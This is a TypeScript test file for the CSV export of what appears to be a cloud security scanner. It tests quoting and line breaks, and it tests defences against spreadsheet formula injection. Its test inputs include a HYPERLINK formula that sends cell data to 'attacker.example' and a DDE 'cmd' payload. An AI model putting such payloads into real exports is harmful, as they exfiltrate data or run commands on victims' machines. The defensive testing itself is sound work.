import { parse } from 'csv-parse/sync';
import { describe, expect, it } from 'vitest';
import { checks } from '../../checks/registry.ts';
import type { ScanResult } from '../../lib/evaluate/evaluate.ts';
import type { CheckResult } from '../../lib/model.ts';
import { CSV_COLUMNS, neutralise, quote, renderCsv } from '../../lib/report/csv.ts';
import { ACCOUNT, REGION } from '../support/evaluate.ts';
import { demoScan, HOSTILE_ARN, HOSTILE_REASON, hostileResult, hostileScan } from './fixture.ts';

/** The CSV as a spreadsheet reads it: strictly RFC 4180 (a stray quote is an error). */
const rowsOf = (csv: string): string[][] =>
  parse(csv, { relax_quotes: false, record_delimiter: '\r\n' });

const scanWith = async (...results: CheckResult[]): Promise<ScanResult> => ({
  ...(await demoScan()),
  results,
});

const withReason = (reason: string, name = hostileResult.resource.name): CheckResult => ({
  ...hostileResult,
  reason,
  resource: { ...hostileResult.resource, name, arn: `${HOSTILE_ARN}-${reason.length}` },
});

describe('CSV output', () => {
  it('has a header row, then one row per result, PASSED included', async () => {
    // Prepare
    const scan = await hostileScan();

    // Act
    const [header, ...rows] = rowsOf(renderCsv(scan, checks));

    // Assess
    expect(header).toEqual([...CSV_COLUMNS]);
    expect(rows).toHaveLength(scan.results.length);
    expect(rows.some((row) => row[4] === 'PASSED')).toBe(true);
    expect(rows.every((row) => row.length === CSV_COLUMNS.length)).toBe(true);
  });

  it('reads back, through a CSV parser, the very account, region, check, severity, status, ARN, reason and URL of a result', async () => {
    // Prepare: a reason with quotes, commas and markup.
    const scan = await scanWith(hostileResult);
    const check = checks.find((c) => c.metadata.id === hostileResult.checkId);

    // Act
    const [, row] = rowsOf(renderCsv(scan, checks));

    // Assess
    expect(row).toEqual([
      ACCOUNT,
      REGION,
      hostileResult.checkId,
      'CRITICAL',
      'FAILED',
      HOSTILE_ARN,
      HOSTILE_REASON,
      check?.metadata.remediation.url,
    ]);
  });

  it('ends every record with CRLF and quotes a field with a line break, so it stays one cell', async () => {
    // Prepare
    const scan = await scanWith(withReason('first line\r\nsecond line, "quoted"'));

    // Act
    const csv = renderCsv(scan, checks);

    // Assess
    expect(csv).toContain('"first line\r\nsecond line, ""quoted"""');
    expect(csv.endsWith('\r\n')).toBe(true);
    expect(csv.replaceAll('\r\n', '').includes('\n')).toBe(false);
    expect(rowsOf(csv)[1]?.[6]).toBe('first line\r\nsecond line, "quoted"');
  });

  it.each([
    ['=', '=HYPERLINK("https://attacker.example/?"&A1,"click")'],
    ['+', '+1+cmd|" /C calc"!A0'],
    ['-', '-2+3'],
    ['@', '@SUM(1,1)'],
    ['a tab', '\t=1+1'],
    ['a carriage return', '\r=1+1'],
  ])(
    'prefixes a cell that starts with %s with an apostrophe, so spreadsheets show it as text',
    async (_start, payload) => {
      // Prepare: a reason that is nothing but the payload (a check quotes resource names).
      const scan = await scanWith(withReason(payload));

      // Act
      const [, row] = rowsOf(renderCsv(scan, checks));

      // Assess
      expect(row?.[6]).toBe(`'${payload}`);
    },
  );

  it.each([
    ['a plain cell', 'arn:aws:ecs:us-east-1:1:service/x', 'arn:aws:ecs:us-east-1:1:service/x'],
    ['a cell with a formula character inside', 'a=b+c', 'a=b+c'],
    ['an empty cell', '', ''],
  ])('leaves %s as it is', (_name, cell, expected) => {
    expect(neutralise(cell)).toBe(expected);
  });

  it.each([
    ['a comma', 'a,b', '"a,b"'],
    ['a quote', 'say "hi"', '"say ""hi"""'],
    ['a line feed', 'a\nb', '"a\nb"'],
    ['nothing special', 'abc', 'abc'],
  ])('quotes a field with %s as RFC 4180 says', (_name, cell, expected) => {
    expect(quote(cell)).toBe(expected);
  });

  it('says in the reason that a result is exempt, and why', async () => {
    // Prepare: the demo account has exemption tags.
    const scan = await demoScan();
    const exempt = scan.results.filter((r) => r.exemption?.state === 'applied');

    // Act
    const rows = rowsOf(renderCsv(scan, checks)).slice(1);

    // Assess
    expect(exempt.length).toBeGreaterThan(0);
    expect(rows.filter((row) => row[6]?.includes('Exempt ('))).toHaveLength(exempt.length);
  });

  it('is only the header for a scan without results', async () => {
    expect(renderCsv(await scanWith(), checks)).toBe(`${CSV_COLUMNS.join(',')}\r\n`);
  });
});
